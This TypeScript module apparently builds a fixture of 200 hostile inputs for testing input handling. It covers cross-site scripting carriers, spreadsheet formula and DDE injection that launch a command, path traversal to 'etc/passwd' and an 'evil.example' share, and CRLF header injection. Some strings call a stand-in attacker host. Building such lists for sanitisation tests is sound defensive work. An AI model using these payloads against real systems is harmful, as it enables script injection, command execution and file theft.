/** What is typed, named and sent to break a page, a spreadsheet, a folder or a header. */
export type HostileKind = 'script' | 'formula' | 'path' | 'header';

const scripts = [
  'alert(1)',
  'confirm`1`',
  'top.opener=1',
  'import("//evil.example")',
  'eval(name)',
  'print()',
];
const carriers = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `"><img src=x onerror=${run}>`,
  (run: string) => `'><svg/onload=${run}>`,
  (run: string) => `</title><script>${run}</script>`,
  (run: string) => `</script><script>${run}//`,
  (run: string) => `javascript:${run}`,
  (run: string) => `[点此](javascript:${run})`,
  (run: string) => `![图](x"onerror="${run})`,
  (run: string) => `<iframe srcdoc="<script>${run}</script>">`,
  (run: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run: string) => `<a href="data:text/html,<script>${run}</script>">城</a>`,
  (run: string) => `{{constructor.constructor("${run}")()}}`,
];
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r='];
const commands = [
  '1+1',
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://evil.example","城")',
  'SUM(A1:A9)*0',
  'DDE("cmd";"/C calc";"1")',
];
const climbs = ['../', '..\\', '/', 'C:\\', '%2e%2e%2f', '....//', '\\\\evil.example\\', './../'];
const goals = ['etc/passwd', 'library.db', 'index.json', 'originals', 'CON.txt', 'a\u202Etxt.exe'];
const breaks = ['\r\n', '\n', '\r', '\u0000', '\u2028', '"; '];
const headers = [
  'Set-Cookie: a=1',
  'Location: //evil.example',
  'filename=evil.exe',
  'X: 1\r\n\r\n<html>',
  'Content-Length: 0',
];

/** Two hundred of them: each carrier with each load. */
export const hostilePayloads: readonly { readonly kind: HostileKind; readonly text: string }[] = [
  ...carriers.flatMap((carry) =>
    scripts.map((run) => ({ kind: 'script' as const, text: carry(run) })),
  ),
  ...signs.flatMap((sign) =>
    commands.map((run) => ({ kind: 'formula' as const, text: sign + run })),
  ),
  ...climbs.flatMap((climb) =>
    goals.map((goal) => ({ kind: 'path' as const, text: climb + goal })),
  ),
  ...breaks.flatMap((cut) =>
    headers.map((line) => ({ kind: 'header' as const, text: `城${cut}${line}` })),
  ),
];
